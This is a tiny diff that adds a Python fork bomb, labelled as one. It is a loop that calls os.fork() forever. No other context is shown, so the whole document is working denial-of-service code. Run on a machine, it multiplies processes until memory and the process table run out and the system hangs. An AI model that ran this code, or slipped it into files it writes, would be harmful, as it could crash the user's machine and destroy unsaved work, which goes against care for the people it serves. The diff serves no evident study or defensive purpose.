@@ -1,0 +1,4 @@
+# fork bomb
+import os
+while True:
+    os.fork()
